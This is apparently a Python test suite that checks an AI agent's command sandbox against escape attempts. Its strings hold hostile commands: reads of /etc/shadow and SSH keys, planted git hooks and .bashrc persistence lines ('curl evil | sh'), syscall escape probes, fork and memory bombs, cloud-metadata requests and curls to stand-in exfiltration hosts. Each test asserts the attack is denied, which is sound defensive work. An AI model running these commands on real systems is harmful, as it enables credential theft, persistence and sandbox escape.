"""The escape suite: every attack from SANDBOX.md, through the real code path, as root and as
an ordinary user. Each test asserts the denial and that the host is unchanged."""

from __future__ import annotations

import hashlib
import os
import socket
import stat
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from escape_harness import Identity, RunSandboxed, make_dir
from nethost import TestHost, nethost_or_skip

PY = "/usr/bin/python3"


def snapshot(root: Path) -> dict[str, tuple[int, int, str]]:
    """Mode, size and content digest (or link target) of everything under ``root``."""
    seen: dict[str, tuple[int, int, str]] = {}
    for path in sorted([root, *root.rglob("*")]):
        st = path.lstat()
        if stat.S_ISLNK(st.st_mode):
            digest = "->" + os.readlink(path)
        elif stat.S_ISREG(st.st_mode):
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            digest = ""
        seen[str(path.relative_to(root))] = (st.st_mode, st.st_size, digest)
    return seen


def py(code: str) -> list[str]:
    return [PY, "-c", code]


# --- filesystem ---------------------------------------------------------------------------


def test_writes_outside_granted_folders_fail(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    granted = make_dir(workspace / "granted", who)
    outside = make_dir(workspace / "outside", who, {"keep.txt": "keep"})
    before = snapshot(outside)
    result = sandboxed(
        f"echo x > {outside}/keep.txt; echo x > {outside}/new.txt; echo x > /usr/evil;"
        f" echo x > /etc/evil; echo x > /evil; echo x > ../escaped; echo done",
        folders=[f"{granted}:rw"],
    )
    assert "done" in result.stdout
    for target in (f"{outside}/keep.txt", f"{outside}/new.txt", "/usr/evil", "/etc/evil"):
        assert f"cannot create {target}" in result.stderr
    assert snapshot(outside) == before
    assert not (workspace / "escaped").exists()
    assert not Path("/usr/evil").exists() and not Path("/etc/evil").exists()


def test_secrets_outside_grants_cannot_be_read(
    sandboxed: RunSandboxed, workspace: Path, who: Identity, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = make_dir(workspace / "home/.ssh", who, {"id_ed25519": "PRIVATE-KEY-MATERIAL"})
    data = make_dir(workspace / "errand-data", who, {"keys/device.key": "ERRAND-KEY"})
    granted = make_dir(workspace / "granted", who)
    result = sandboxed(
        f"cat {secret}/id_ed25519; cat {data}/keys/device.key; cat /etc/shadow; "
        f"cat /root/.ssh/id_rsa; ls /home /root; cat /proc/1/environ; echo done",
        folders=[f"{granted}:ro"],
    )
    assert "done" in result.stdout
    assert "PRIVATE-KEY-MATERIAL" not in result.output
    assert "ERRAND-KEY" not in result.output
    assert "root:" not in result.stdout  # no shadow entries


@pytest.mark.parametrize(
    "attack",
    [
        "echo new > created.txt",
        "echo changed > data.txt",
        "rm data.txt",
        "mv data.txt moved.txt",
        "chmod 777 data.txt",
        ": > data.txt",
        "truncate -s 0 data.txt",
        "mkdir sub",
        "ln -s /etc/passwd link",
        "touch -d 2000-01-01 data.txt",
    ],
)
def test_read_only_folder_refuses_every_write(
    sandboxed: RunSandboxed, workspace: Path, who: Identity, attack: str
) -> None:
    folder = make_dir(workspace / "ro", who, {"data.txt": "original"})
    before = snapshot(folder)
    result = sandboxed(f"{attack} && echo ESCAPED", folders=[f"{folder}:ro"])
    assert "ESCAPED" not in result.stdout
    assert "Read-only file system" in result.stderr
    assert snapshot(folder) == before


def test_read_write_folder_is_writable(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    folder = make_dir(workspace / "x", who)
    result = sandboxed("echo hi > out.txt && pwd", folders=[f"{folder}:rw"])
    assert result.exit_code == 0, result.stderr
    assert result.stdout.strip() == "/sessions/escape/mnt/x"
    assert (folder / "out.txt").read_text(encoding="utf-8") == "hi\n"
    assert (folder / "out.txt").stat().st_uid == who.uid


@pytest.mark.parametrize(
    "attack",
    [
        "echo evil > .git/hooks/pre-commit",
        "echo evil >> .git/config",
        "echo evil > .envrc",
        "mkdir .vscode && echo evil > .vscode/tasks.json",
        "mkdir -p .github/workflows && echo evil > .github/workflows/ci.yml",
        "echo evil > nc && mv nc .git/config || { rm -f nc; false; }",
        "rm .git/config; echo evil > .git/config",
        "mv .git .git-away && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
        "mv .git/hooks .git/hooks-away && mkdir .git/hooks && echo e > .git/hooks/post-merge",
        "echo evil > .bashrc",
        "mkdir -p .errand && echo evil > .errand/x",
        "mkdir -p .agents/skills/evil && echo evil > .agents/skills/evil/SKILL.md",
        "echo '{}' > .mcp.json",
        "ln -s /tmp/x .npmrc",
    ],
)
def test_protected_paths_stay_protected(
    sandboxed: RunSandboxed, workspace: Path, who: Identity, attack: str
) -> None:
    folder = make_dir(
        workspace / "repo",
        who,
        {
            ".git/config": "[core]\n",
            ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
            ".git/HEAD": "ref: refs/heads/main\n",
            "README": "hello\n",
        },
    )
    before = snapshot(folder)
    result = sandboxed(f"{attack} && echo ESCAPED", folders=[f"{folder}:rw"])
    assert "ESCAPED" not in result.stdout, result.output
    assert snapshot(folder) == before, "the folder changed or placeholders were left behind"


def test_unprotected_git_internals_stay_writable(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    folder = make_dir(workspace / "repo", who, {".git/HEAD": "ref: refs/heads/main\n"})
    result = sandboxed("echo abc > .git/HEAD && cat .git/HEAD", folders=[f"{folder}:rw"])
    assert result.exit_code == 0, result.stderr
    assert (folder / ".git/HEAD").read_text(encoding="utf-8") == "abc\n"


def test_symlinks_to_outside_paths_lead_nowhere(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    secret = make_dir(workspace / "secret", who, {"s.txt": "TOP-SECRET"})
    folder = make_dir(workspace / "granted", who)
    (folder / "link").symlink_to(secret / "s.txt")
    (folder / "dirlink").symlink_to(secret)
    os.lchown(folder / "link", who.uid, who.gid)
    os.lchown(folder / "dirlink", who.uid, who.gid)
    before = snapshot(secret)
    result = sandboxed(
        "cat link; cat dirlink/s.txt; echo x > dirlink/new; echo x > link", folders=[f"{folder}:rw"]
    )
    assert "TOP-SECRET" not in result.output
    assert snapshot(secret) == before


def test_hardlinks_to_outside_files_fail(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    folder = make_dir(workspace / "granted", who)
    result = sandboxed(
        "ln /usr/bin/env ./env-link && echo LINKED; ln /etc/passwd ./p && echo LINKED2",
        folders=[f"{folder}:rw"],
    )
    assert "LINKED" not in result.stdout
    assert not (folder / "env-link").exists() and not (folder / "p").exists()


def test_device_nodes_cannot_be_made_or_reached(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    folder = make_dir(workspace / "granted", who)
    result = sandboxed(
        "mknod disk b 8 0 && echo MADE; ls /dev;"
        " cat /dev/sda /dev/mem /dev/kmsg 2>&1 | head -c 200",
        folders=[f"{folder}:rw"],
    )
    assert "MADE" not in result.stdout
    assert not (folder / "disk").exists()
    names = set(result.stdout.split())
    assert {"null", "zero", "urandom"} <= names
    assert not names & {"sda", "vda", "mem", "kmsg", "kvm"}


def test_host_processes_are_invisible(sandboxed: RunSandboxed) -> None:
    result = sandboxed(
        py(
            "import os\n"
            "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
            "print(len(pids), open('/proc/1/cmdline','rb').read().split(b'\\0')[0].decode())\n"
        )
    )
    count, init = result.stdout.split()
    assert int(count) <= 3, result.stdout
    assert "bwrap" in init or "python" in init
    assert str(os.getpid()) not in result.stdout.split()[0:1]


# --- process -------------------------------------------------------------------------------


def test_no_capabilities_no_new_privs_and_seccomp(sandboxed: RunSandboxed) -> None:
    result = sandboxed("grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status")
    fields = dict(line.split(":\t") for line in result.stdout.strip().splitlines())
    assert fields["CapEff"] == fields["CapPrm"] == fields["CapBnd"] == "0000000000000000"
    assert fields["NoNewPrivs"] == "1"
    assert fields["Seccomp"] == "2"


SYSCALL_ATTACKS = r"""
import ctypes, errno, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    r = getattr(libc, name)(*args)
    return "ok" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
out = {}
out["mount_remount"] = call("mount", None, b"/", None, 0x20 | 0x1000, None)  # MS_REMOUNT|MS_BIND
out["mount_bind"] = call("mount", b"/usr", b"/tmp", None, 0x1000, None)
out["umount"] = call("umount2", b"/usr", 2)
out["unshare_user"] = call("unshare", 0x10000000)
out["unshare_mount"] = call("unshare", 0x00020000)
out["setns"] = call("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0)
out["ptrace"] = call("ptrace", 0, 0, None, None)
def raw(name, number, *args):
    ok = libc.syscall(number, *args) >= 0
    out[name] = "ok" if ok else errno.errorcode.get(ctypes.get_errno(), "?")
raw("io_uring", 425, 1, ctypes.create_string_buffer(120))
raw("bpf", 321, 0, None, 0)
raw("keyctl", 250, 0, 0, 0, 0, 0)
families = [(16, socket.SOCK_RAW), (17, socket.SOCK_RAW), (40, socket.SOCK_STREAM)]
for name, (fam, typ) in zip(["netlink", "packet", "vsock"], families):
    try:
        socket.socket(fam, typ).close(); out[name] = "ok"
    except OSError as e:
        out[name] = errno.errorcode.get(e.errno, str(e))
import fcntl, termios
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"x"); out["tiocsti"] = "ok"
except OSError as e:
    out["tiocsti"] = errno.errorcode.get(e.errno, "?")
print(out)
"""


def test_kernel_attack_surface_is_closed(sandboxed: RunSandboxed) -> None:
    if os.uname().machine != "x86_64":
        pytest.skip("syscall numbers in this test are for x86_64")
    result = sandboxed(py(SYSCALL_ATTACKS))
    outcome: dict[str, str] = eval(result.stdout)
    assert outcome, result.stderr
    for name, verdict in outcome.items():
        assert verdict != "ok", f"{name} succeeded inside the sandbox"


def test_nested_user_namespaces_fail(sandboxed: RunSandboxed) -> None:
    result = sandboxed("unshare -U true && echo NESTED; unshare -r -n true && echo NESTED2")
    assert "NESTED" not in result.stdout


def test_only_standard_fds_are_inherited(sandboxed: RunSandboxed) -> None:
    result = sandboxed(
        py(
            "import os\n"
            "open_fds = []\n"
            "for fd in range(3, 4096):\n"
            "    try:\n"
            "        os.fstat(fd); open_fds.append(fd)\n"
            "    except OSError:\n"
            "        pass\n"
            "print(open_fds)\n"
        )
    )
    assert result.stdout.strip() == "[]", result.output


def test_timeout_kills_the_whole_tree(sandboxed: RunSandboxed) -> None:
    marker = "31.4159"
    result = sandboxed(f"sleep {marker} & (sleep {marker} &) ; sleep {marker}", timeout=1.0)
    assert result.exit_code == 124 and result.timed_out
    assert not _processes_with(marker)


def _processes_with(text: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmd = Path(f"/proc/{pid}/cmdline").read_bytes()
            except OSError:
                continue
            if text.encode() in cmd:
                found.append(int(pid))
    return found


def test_fork_bomb_is_capped(sandboxed: RunSandboxed, who: Identity) -> None:
    from errand.sandbox.cgroup import pids_base

    if who.uid == 0 and pids_base() is None:
        pytest.skip("running as root without a pids cgroup: only the timeout stops a fork bomb")
    result = sandboxed(
        py(
            "import os\n"
            "n = 0\n"
            "for _ in range(5000):\n"
            "    try:\n"
            "        pid = os.fork()\n"
            "    except OSError:\n"
            "        print('capped at', n); break\n"
            "    if pid == 0:\n"
            "        import time; time.sleep(30); os._exit(0)\n"
            "    n += 1\n"
        ),
        limits={"processes": 64},
        timeout=10,
    )
    assert "capped at" in result.stdout, result.output
    assert int(result.stdout.split()[-1]) < 64


def test_memory_bomb_is_capped(sandboxed: RunSandboxed) -> None:
    result = sandboxed(
        py("b = bytearray(2 * 1024**3); print('ALLOCATED')"), limits={"memory_bytes": 512 * 1024**2}
    )
    assert "ALLOCATED" not in result.stdout
    assert "MemoryError" in result.stderr


def test_disk_fill_is_capped(sandboxed: RunSandboxed, workspace: Path, who: Identity) -> None:
    folder = make_dir(workspace / "granted", who)
    result = sandboxed(
        "head -c 50000000 /dev/zero > big; head -c 50000000 /dev/zero > /tmp/b",
        folders=[f"{folder}:rw"],
        limits={"file_size_bytes": 4 * 1024**2, "scratch_bytes": 8 * 1024**2},
    )
    assert (folder / "big").stat().st_size <= 4 * 1024**2
    assert result.exit_code != 0


def test_endless_output_is_capped(sandboxed: RunSandboxed) -> None:
    result = sandboxed("yes errand", limits={"output_bytes": 65536}, timeout=20)
    assert len(result.stdout) <= 65536
    assert not result.timed_out, "a runaway producer must be stopped before the timeout"


# --- network -------------------------------------------------------------------------------


def test_empty_allowlist_blocks_every_way_out(sandboxed: RunSandboxed) -> None:
    result = sandboxed(
        "curl -fsS -m 3 http://example.com/ && echo HTTP-OUT;"
        " curl -fsS -m 3 https://example.com/ && echo HTTPS-OUT;"
        " curl -fsS -m 3 --noproxy '*' http://93.184.215.14/ && echo DIRECT-OUT;"
        " getent hosts example.com && echo DNS-OUT;"
        " bash -c 'echo > /dev/tcp/1.1.1.1/53' && echo TCP-OUT;"
        f" {PY} -c \"import socket; socket.create_connection(('8.8.8.8', 53), 2)\" && echo PY-OUT;"
        f' {PY} -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM);'
        " s.sendto(b'x', ('8.8.8.8', 53))\" && echo UDP-OUT; echo done",
        timeout=30,
    )
    assert "done" in result.stdout
    assert "OUT" not in result.stdout, result.output
    assert any(d["host"] == "example.com" and d["verdict"] == "deny" for d in result.network)


def test_host_loopback_and_abstract_sockets_are_unreachable(sandboxed: RunSandboxed) -> None:
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind(b"\0errand-escape-test")
    abstract.listen()
    try:
        result = sandboxed(
            f"{PY} -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\" "
            "&& echo LOOPBACK-OUT;"
            f" curl -fsS -m 3 http://127.0.0.1:{port}/ && echo PROXY-LOOPBACK-OUT;"
            f" curl -fsS -m 3 http://169.254.169.254/latest/meta-data/ && echo METADATA-OUT;"
            f' {PY} -c "import socket; s=socket.socket(socket.AF_UNIX);'
            " s.connect(b'\\0errand-escape-test')\" && echo ABSTRACT-OUT; echo done",
            timeout=30,
        )
    finally:
        listener.close()
        abstract.close()
    assert "done" in result.stdout
    assert "OUT" not in result.stdout, result.output


def test_host_lan_address_is_unreachable(sandboxed: RunSandboxed) -> None:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 9))  # no packet is sent for a UDP connect
        lan = probe.getsockname()[0]
    except OSError:
        pytest.skip("no LAN address")
    finally:
        probe.close()
    server = socket.create_server(("0.0.0.0", 0))
    port = server.getsockname()[1]
    try:
        result = sandboxed(
            f"{PY} -c \"import socket; socket.create_connection(('{lan}', {port}), 2)\" "
            f"&& echo LAN-OUT; curl -fsS -m 3 http://{lan}:{port}/ && echo PROXY-LAN-OUT;"
            " echo done",
            network={"allow_cidrs": []},
        )
    finally:
        server.close()
    assert "done" in result.stdout
    assert "OUT" not in result.stdout, result.output


def test_allowed_name_resolving_to_loopback_is_refused(sandboxed: RunSandboxed) -> None:
    result = sandboxed(
        "curl -fsS -m 5 http://sneaky.test/ && echo OUT; echo done",
        network={"allow_domains": ["sneaky.test"]},
        hosts={"sneaky.test": "127.0.0.1"},
    )
    assert "OUT" not in result.stdout
    denial = [d for d in result.network if d["host"] == "sneaky.test"]
    assert denial and denial[0]["verdict"] == "deny" and "loopback" in denial[0]["reason"]


def test_denied_names_are_never_resolved(sandboxed: RunSandboxed) -> None:
    result = sandboxed(
        "curl -fsS -m 3 http://exfil.attacker.test/ ; curl -fsS -m 3 -x socks5h://127.0.0.1:3128"
        " http://exfil2.attacker.test/; echo done",
        network={"deny_domains": ["*.attacker.test"]},
        hosts={"exfil.attacker.test": "10.254.0.2"},
    )
    assert "done" in result.stdout
    assert result.resolved == []


def test_a_request_without_the_session_credential_is_refused(sandboxed: RunSandboxed) -> None:
    result = sandboxed(
        "curl -fsS -m 3 -o /dev/null -w '%{http_code}' -x http://127.0.0.1:3128 "
        "http://allowed.test/",
        network={"allow_domains": ["allowed.test"]},
        hosts={"allowed.test": "10.254.0.2"},
    )
    assert result.stdout.strip() == "407"
    assert result.resolved == []


# --- secrets and control -------------------------------------------------------------------


def test_no_secrets_reach_the_sandbox(
    sandboxed: RunSandboxed, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GITHUB_TOKEN", "MY_SECRET", "AWS_SECRET"):
        monkeypatch.setenv(name, "leaked-value")
    result = sandboxed("env")
    names = {line.split("=", 1)[0] for line in result.stdout.splitlines()}
    assert not {n for n in names if any(k in n for k in ("KEY", "TOKEN", "SECRET"))}
    assert "leaked-value" not in result.stdout


def test_home_writes_do_not_persist_or_leak(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    first = sandboxed("echo 'curl evil | sh' >> ~/.bashrc; pwd; echo $HOME")
    assert "/sessions/escape" in first.stdout
    second = sandboxed("cat ~/.bashrc 2>/dev/null; echo done")
    assert "evil" not in second.stdout


def test_many_sessions_cannot_share_a_credential(sandboxed: RunSandboxed) -> None:
    # A credential guessed from another session's environment variable pattern is refused.
    result = sandboxed(
        "curl -fsS -m 3 -o /dev/null -w '%{http_code}' -x http://errand:guess@127.0.0.1:3128 "
        "http://allowed.test/",
        network={"allow_domains": ["allowed.test"]},
        hosts={"allowed.test": "10.254.0.2"},
    )
    assert result.stdout.strip() == "407"


def test_concurrent_commands_leave_no_placeholders(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    folder = make_dir(workspace / "proj", who, {"a.txt": "a"})
    before = snapshot(folder)
    errors: list[BaseException] = []

    def one() -> None:
        try:
            sandboxed("cat a.txt", folders=[f"{folder}:rw"])
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=one) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert not errors
    assert snapshot(folder) == before


# --- allowed traffic, through a namespace test host ---------------------------------------


@pytest.fixture
def test_host() -> Iterator[TestHost]:
    with nethost_or_skip() as host:
        yield host


def test_an_allowed_domain_works_over_http_connect_and_socks(
    sandboxed: RunSandboxed, test_host: TestHost
) -> None:
    url = "http://api.allowed.test:8080/hello"
    result = sandboxed(
        f"curl -fsS -m 5 {url}; echo;"
        f" curl -fsS -m 5 --proxytunnel {url}; echo;"
        f' curl -fsS -m 5 --proxy "$ALL_PROXY" {url}; echo;'
        " curl -fsS -m 5 http://other.test:8080/ || echo DENIED",
        network={"allow_domains": ["*.allowed.test"], "allow_cidrs": [str(test_host.network)]},
        hosts={"api.allowed.test": str(test_host.address), "other.test": str(test_host.address)},
    )
    assert result.stdout.count("errand test host") == 3, result.output
    assert "path: /hello" in result.stdout
    assert "DENIED" in result.stdout
    verdicts = {(d["host"], d["verdict"]) for d in result.network}
    assert ("api.allowed.test", "allow") in verdicts
    assert ("other.test", "deny") in verdicts
    assert "other.test" not in result.resolved


@pytest.mark.parametrize(
    ("target", "plain_allowed"),
    [
        ("http://API.ALLOWED.TEST:8080/", True),
        ("http://api.allowed.test.:8080/", True),
        ("http://evil.test:8080/", False),
        ("http://api.allowed.test@evil.test:8080/", False),  # the host is evil.test
        ("http://evil.test%00.api.allowed.test:8080/", False),
        ("http://2130706433:8080/", False),
        ("http://0177.0.0.1:8080/", False),
        ("http://[::ffff:127.0.0.1]:8080/", False),
    ],
)
def test_parser_tricks_get_the_plain_names_verdict(
    sandboxed: RunSandboxed, test_host: TestHost, target: str, plain_allowed: bool
) -> None:
    result = sandboxed(
        f"curl -fsS -m 5 '{target}' && echo REACHED",
        network={"allow_domains": ["api.allowed.test"], "allow_cidrs": [str(test_host.network)]},
        hosts={"api.allowed.test": str(test_host.address), "evil.test": str(test_host.address)},
    )
    assert ("REACHED" in result.stdout) == plain_allowed, result.output
    assert "evil.test" not in result.resolved


def test_host_mismatch_between_connect_and_host_header_is_refused(
    sandboxed: RunSandboxed, test_host: TestHost
) -> None:
    result = sandboxed(
        "curl -fsS -m 5 -H 'Host: evil.test' http://api.allowed.test:8080/ && echo REACHED",
        network={"allow_domains": ["api.allowed.test"], "allow_cidrs": [str(test_host.network)]},
        hosts={"api.allowed.test": str(test_host.address), "evil.test": str(test_host.address)},
    )
    assert "REACHED" not in result.stdout


# --- Errand's own files --------------------------------------------------------------------

ERRAND_FILES = {
    "errand.db": "SQLite format 3\x00 DEVICE-TOKENS",
    "errand.toml": "[approvals]\nshell = 'ask'\n",
    "server.json": '{"admin_secret": "ADMIN-SECRET"}',
}

OWN_FILES_ATTACK = r"""
import os, sys
root = sys.argv[1]
for rel in sys.argv[2:]:
    for name in ("errand.db", "errand.toml", "server.json"):
        path = os.path.join(root, rel, name)
        try:
            print("READ", open(path, encoding="latin-1").read())
        except OSError as e:
            print("no read", name, e.errno)
        try:
            with open(path, "a", encoding="utf-8") as f:
                f.write("\nESCAPED = true\n")
            print("WROTE", path)
        except OSError as e:
            print("no write", name, e.errno)
    try:
        os.rename(os.path.join(root, rel), os.path.join(root, "moved-away"))
        print("MOVED", rel)
    except OSError as e:
        print("no move", e.errno)
for top, dirs, files in os.walk(root):
    for name in files:
        if name in ("errand.db", "server.json"):
            print("FOUND", os.path.join(top, name))
print("done")
"""


def _errand_home(base: Path, who: Identity) -> Path:
    return make_dir(base, who, dict(ERRAND_FILES))


@pytest.mark.parametrize("mode", ["rw", "ro"])
def test_errand_data_dir_inside_a_granted_home_is_invisible(
    sandboxed: RunSandboxed, workspace: Path, who: Identity, mode: str
) -> None:
    home = make_dir(workspace / "home", who, {"notes.txt": "mine"})
    data = _errand_home(home / ".local/share/errand", who)
    before = snapshot(data)
    result = sandboxed(
        [PY, "-c", OWN_FILES_ATTACK, "/sessions/escape/mnt/home", ".local/share/errand"],
        folders=[f"{home}:{mode}"],
        env={"ERRAND_HOME": str(data)},
    )
    assert "done" in result.stdout, result.output
    for secret in ("DEVICE-TOKENS", "ADMIN-SECRET", "approvals", "WROTE", "MOVED", "FOUND"):
        assert secret not in result.stdout, result.output
    assert snapshot(data) == before


def test_errand_data_dir_reached_through_a_symlink_is_invisible(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    home = make_dir(workspace / "home", who)
    data = _errand_home(home / "real-data", who)
    link = workspace / "errand-link"
    link.symlink_to(data)
    before = snapshot(data)
    result = sandboxed(
        [PY, "-c", OWN_FILES_ATTACK, "/sessions/escape/mnt/home", "real-data"],
        folders=[f"{home}:rw"],
        env={"ERRAND_HOME": str(link)},
    )
    assert "done" in result.stdout, result.output
    assert "ADMIN-SECRET" not in result.stdout and "WROTE" not in result.stdout
    assert snapshot(data) == before


def test_errand_data_dir_shown_again_by_a_bind_mount_is_invisible(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    if os.geteuid() != 0:
        pytest.skip("making a bind mount needs root")
    data = _errand_home(workspace / "errand-data", who)
    home = make_dir(workspace / "home", who, {"mirror/.keep": ""})
    subprocess.run(["mount", "--bind", str(data), str(home / "mirror")], check=True)
    try:
        before = snapshot(data)
        result = sandboxed(
            [PY, "-c", OWN_FILES_ATTACK, "/sessions/escape/mnt/home", "mirror"],
            folders=[f"{home}:rw"],
            env={"ERRAND_HOME": str(data)},
        )
    finally:
        subprocess.run(["umount", str(home / "mirror")], check=True)
    assert "done" in result.stdout, result.output
    assert "ADMIN-SECRET" not in result.stdout and "WROTE" not in result.stdout, result.output
    assert snapshot(data) == before


def test_granting_errand_data_dir_itself_is_refused(
    sandboxed: RunSandboxed, workspace: Path, who: Identity
) -> None:
    data = _errand_home(workspace / "errand-data", who)
    inside = make_dir(data / "inside", who)
    before = snapshot(data)
    for folder in (data, inside):
        with pytest.raises(Exception, match="Errand's own directory"):
            result = sandboxed(
                "cat errand.db", folders=[f"{folder}:rw"], env={"ERRAND_HOME": str(data)}
            )
            raise AssertionError(result.output)
    assert snapshot(data) == before
